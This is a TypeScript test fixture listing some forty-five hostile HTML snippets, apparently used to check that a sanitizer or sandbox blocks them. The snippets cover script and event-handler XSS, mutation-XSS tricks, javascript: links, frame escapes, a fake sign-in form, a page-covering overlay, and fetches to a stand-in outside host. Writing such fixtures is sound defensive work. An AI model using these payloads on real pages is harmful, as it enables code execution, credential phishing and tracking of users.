/**
 * Hostile HTML by its aim: to run code, to load something, to leave the frame, or to imitate the page around it.
 * `outside` is an address that must never receive a request.
 */
export function hostileHtml(outside: string): [name: string, html: string][] {
  const ran = `fetch('${outside}/ran');top.ran=1;alert(1)`;
  return [
    ['a script', `<script>${ran}</script>`],
    ['a script from outside', `<script src="${outside}/x.js"></script>`],
    ['a module', `<script type="module">${ran}</script>`],
    ['a nested script', `<scr<script>ipt>${ran}</scr</script>ipt>`],
    ['a picture with a handler', `<img src=x onerror="${ran}">`],
    ['a remote picture', `<img src="${outside}/pixel.gif" width=1 height=1 alt="pixel">`],
    ['a picture set', `<img srcset="${outside}/a.png 1x, ${outside}/b.png 2x">`],
    ['a picture without a scheme', `<img src="${outside.replace('http:', '')}/pixel.gif">`],
    ['a picture of the page’s own', '<img src="/console/assets/nothing.svg">'],
    [
      'a lazy picture',
      `<picture><source srcset="${outside}/c.webp"><img loading=eager src="${outside}/c.png"></picture>`,
    ],
    [
      'a background by attribute',
      `<table background="${outside}/bg.png"><tr><td background="${outside}/td.png">x</table>`,
    ],
    ['a background by style', `<div style="background:url(${outside}/style.png)">x</div>`],
    ['a style sheet', `<style>@import url(${outside}/a.css);body{background:url(${outside}/b.png)}</style>`],
    ['a linked style sheet', `<link rel=stylesheet href="${outside}/l.css">`],
    [
      'a linked icon and prefetch',
      `<link rel=icon href="${outside}/i.ico"><link rel=prefetch href="${outside}/p">`,
    ],
    ['a font', `<style>@font-face{font-family:f;src:url(${outside}/f.woff)}p{font-family:f}</style><p>x</p>`],
    ['SVG with a handler', `<svg onload="${ran}"><image href="${outside}/svg.png"/></svg>`],
    ['SVG with a script', `<svg><script>${ran}</script><use href="${outside}/u.svg#a"/></svg>`],
    [
      'SVG with an animation',
      `<svg><a><animate attributeName=href values="javascript:${ran}"/><text>x</text></a></svg>`,
    ],
    [
      'MathML',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran}&gt;">`,
    ],
    ['a mutation', `<noscript><p title="</noscript><img src=x onerror=${ran}>">`],
    ['a template', `<template><script>${ran}</script></template>`],
    ['a frame', `<iframe src="${outside}/frame"></iframe>`],
    ['a frame with a document', `<iframe srcdoc="<script>${ran}</script>"></iframe>`],
    ['a frame with a script address', `<iframe src="javascript:${ran}"></iframe>`],
    ['an object', `<object data="${outside}/o.swf"></object><embed src="${outside}/e.swf">`],
    ['a refresh', `<meta http-equiv="refresh" content="0;url=${outside}/refresh">`],
    ['a base', `<base href="${outside}/"><img src="based.png"><a href="x">x</a>`],
    [
      'a form',
      `<form action="${outside}/form"><input name=password><button autofocus>Sign in</button></form>`,
    ],
    ['a form with a handler', `<form><input onfocus="${ran}" autofocus></form>`],
    ['a script link', `<a href="javascript:${ran}">x</a><a href="JaVaScRiPt&colon;${ran}">x</a>`],
    ['a data link', `<a href="data:text/html,<script>${ran}</script>">x</a>`],
    ['a link that pings', `<a href="https://example.test/" ping="${outside}/ping">x</a>`],
    [
      'media',
      `<video src="${outside}/v.mp4" poster="${outside}/v.png" autoplay></video><audio src="${outside}/a.mp3" autoplay></audio>`,
    ],
    [
      'a track',
      `<video autoplay><source src="${outside}/s.mp4"><track src="${outside}/t.vtt" default></video>`,
    ],
    ['details', `<details open ontoggle="${ran}">x</details>`],
    ['a marquee', `<marquee onstart="${ran}">x</marquee>`],
    ['a body with a handler', `<body onload="${ran}" onpageshow="${ran}">x</body>`],
    [
      'an animation with a handler',
      `<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart="${ran}">x</p>`,
    ],
    ['a portal to the page', '<div id="root"></div><a target="_top" href="/console/settings">x</a>'],
    [
      'what covers the page',
      '<div style="position:fixed;inset:0;z-index:9999;background:red">Your session has ended</div>',
    ],
    ['names that shadow', '<img name=body><form name=cookie></form><a id=defaultView></a>'],
    ['a comment that ends early', `<!--><img src=x onerror="${ran}">-->`],
    ['an end of the document', `</body></html></iframe><script>${ran}</script>`],
    ['a nonce that it guesses', `<style nonce="">body{background:url(${outside}/n.png)}</style>`],
  ];
}
